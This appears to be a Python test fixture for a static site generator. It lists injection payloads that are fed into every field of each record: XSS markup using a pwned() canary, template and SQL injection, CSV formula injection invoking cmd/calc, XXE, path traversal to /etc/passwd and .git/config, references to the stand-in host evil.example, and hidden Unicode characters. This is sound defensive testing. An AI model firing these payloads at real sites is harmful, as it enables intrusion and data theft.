"""Text that tries to be more than text; ``pwned()`` is the canary that must never sing.

To try another trick, add a line. Each one is put into every field of every kind of record.
"""

from __future__ import annotations

HOST = "evil.example"

MARKUP = (
    "<img src=x onerror=pwned()>",
    "<script>pwned()</script>",
    "</script><script>pwned()</script>",
    "</title><script>pwned()</script>",
    "</textarea><script>pwned()</script>",
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<svg><a xlink:href='javascript:pwned()'><text y=20>x</text></a>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.pwned()</script>'>",
    "<body onload=pwned()>",
    "<details open ontoggle=pwned()>",
    "<a href=javascript:pwned() autofocus onfocus=pwned()>x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
    "<!--<img src='--><img src=x onerror=pwned()>",
    "<![CDATA[<img src=x onerror=pwned()>]]>",
    f"<style>@import'//{HOST}/x.css';</style>",
    f"<link rel=stylesheet href=//{HOST}/x.css>",
    f"<meta http-equiv=refresh content='0;url=//{HOST}/'>",
    f"<base href=//{HOST}/>",
    f"<form action=//{HOST}/><input autofocus onfocus=pwned()>",
    "<object data=javascript:pwned()>",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
    "<template><script>pwned()</script></template>",
    "<video><source onerror=pwned()>",
    "<x onclick=pwned() style=position:fixed;inset:0>",
    "<IMG/SRC=x/OnErRoR=pwned()//",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&amp;&quot;&#39;&#x3C;img src=x onerror=pwned()&#x3E;",
    "\\u003cimg src=x onerror=pwned()\\u003e",
    "%3Cimg%20src=x%20onerror=pwned()%3E",
)
ATTRIBUTES = (
    '" onmouseover="pwned()" x="',
    "' onfocus='pwned()' autofocus tabindex='1",
    '"><img src=x onerror=pwned()>',
    "'><svg onload=pwned()>",
    "` onerror=pwned() `",
    f'x" style="background:url(//{HOST}/x)',
    '" autofocus onfocus=pwned() "',
)
TEMPLATES = (
    "${document.title='PWNED'}",
    "`${pwned()}`",
    "'+pwned()+'",
    '";pwned();//',
    '\\";pwned();//',
    "C:\\x\\2019\\u0041\\n",
    "{{7*7}}",
    "{{constructor.constructor('pwned()')()}}",
    "{{ ''.__class__.__mro__ }}",
    '{% include "/etc/passwd" %}',
    "{% raw %}{{ config }}{% endraw %}",
    "{# hidden #}",
    "|tag| {filename}/pages/x.md {static}/x",
    "#{7*7} <%= 7*7 %> @{7*7}",
    "%(name)s %s %n %1$s",
    "{0} {name} {name.__class__}",
    "$& $1 $` \\1 \\g<0>",
)
ADDRESSES = (
    "javascript:pwned()",
    "data:text/html,<script>pwned()</script>",
    f"//{HOST}/x",
    f"https://{HOST}/?a=1&b=2#c",
    "../../../etc/passwd",
    "/?q=<script>pwned()</script>&c=x",
)
MARKDOWN = (
    "[x](javascript:pwned())",
    f"![x](//{HOST}/x.png)",
    "<javascript:pwned()>",
    "# *x* **x** _x_ ~~x~~ > x",
    "| a | b | --- |",
    "```html <b>x</b> ```",
    "[x]: javascript:pwned() 'x'",
)
TABLES = (
    f'=HYPERLINK("https://{HOST}/","x")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "x,\"y\",'z'\\t",
)
DATA = (
    "</script><!--<script>",
    '"}]}</script><script>pwned()</script>',
    '{"@context":"x","__proto__":{"x":1}}',
    "]]><x xmlns='x'/>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY x 'pwned()'>]>&x;",
    "\\nEND:VEVENT\\nBEGIN:VEVENT X-A:B\\,",
    '\'); DROP TABLE cities;-- " OR ""="',
    'NEAR(x* OR) AND "x" -x ^x:',
    "__proto__ constructor toString hasOwnProperty",
)
LETTERS = (
    "\uff1cimg src=x onerror=pwned()\uff1e \uff02",
    "a\u200db\u200cc",
    "Z\u0351\u0347\u0333a\u0310l\u0362\u032eg\u0336o",
    "\U0001f1f5\U0001f1f1 \U0001f469\u200d\U0001f52c \U0001d54f",
    "İıſKẞßﬁ\u01c6",
    "שלום مدينة ﷺ",
    "東京 \u3000 x",
    "x\ufe0f \u2764\ufe0f",
)
PATHS = (
    *("..", "../", "../x/", "../../../elsewhere/", "../../../elsewhere/index.html", "cities/../../x/"),
    *("/", "/etc/passwd", "//evil.example/x/", "///x/", "cities//x/", "./x/", "cities/./x/", ".", "./"),
    *("..\\..\\x\\", "C:\\x", "C:/x/", "\\\\host\\x", "cities\\x/", "file:///etc/x/", "~/x/", "$HOME/x/"),
    *("%2e%2e/%2e%2e/x/", "..%2fx/", "%2e%2e%5cx/", "..%c0%afx/", "%00/", "cities/%2e%2e/", "cities/.."),
    *("_headers", "_redirects", "index.html", "404.html", "robots.txt", "cities/index.html"),
    *(".git/config", ".atlas-output", ".well-known/x/", "cities/.htaccess", "data/.x.csv", "cities/.../"),
    *("theme/css/atlas.css", "theme/", "theme/x/", "pagefind/pagefind.js", "cities/con/", "nul/"),
    *("x" * 256 + "/", "cities/" + "x" * 256 + "/", "x/" * 200, "cities/x /", "cities/x./", "cities/x-/"),
    *("Cities/X/", "cities/łódź/", "cities/\uff0e\uff0e/x/", "cities/\u2024\u2024/x/", "cities/x:y/"),
    *("cities/x/#../..", "#x", "cities/<b>/", "cities/x|y/", "cities/x*/", "data/x.csv/y/", "data/x.csv/"),
    *("data/aux.csv", "cities/x?y/", "cities/x\ty/"),
)
"""Paths that lead out of the site, or to a file that is none of the data's, however they are spelled."""
PAYLOADS = (*MARKUP, *ATTRIBUTES, *TEMPLATES, *ADDRESSES, *MARKDOWN, *TABLES, *DATA, *LETTERS)

REFUSED = (
    "a\u202eb",
    "a\u2066b\u2069",
    "a\u200bb",
    "a\x00b",
    "a\x1b[31mb",
    "a\u2028b",
    "a\ufeffb",
    "a\U000e0041b",
    "a\x9bb",
    "a\u00adb",
    "a\u034fb",
    "a\ufffdb",
    "a\ufffcb",
)
"""What the data may not hold at all: it would not be seen, or turn the text around it."""
